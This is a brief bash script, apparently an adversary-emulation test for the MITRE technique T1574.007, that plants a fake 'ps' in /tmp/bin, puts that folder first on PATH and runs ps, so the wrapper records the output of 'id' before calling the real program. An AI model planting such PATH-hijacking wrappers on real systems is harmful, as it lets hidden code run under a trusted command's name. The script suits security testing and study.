#!/bin/bash
# T1574.007: A program of a known name lies earlier on the way.
mkdir /tmp/bin; printf '#!/bin/sh\nid >/tmp/o\nexec /bin/ps "$@"\n' >/tmp/bin/ps; chmod +x /tmp/bin/ps; PATH=/tmp/bin:$PATH sh -c 'ps'
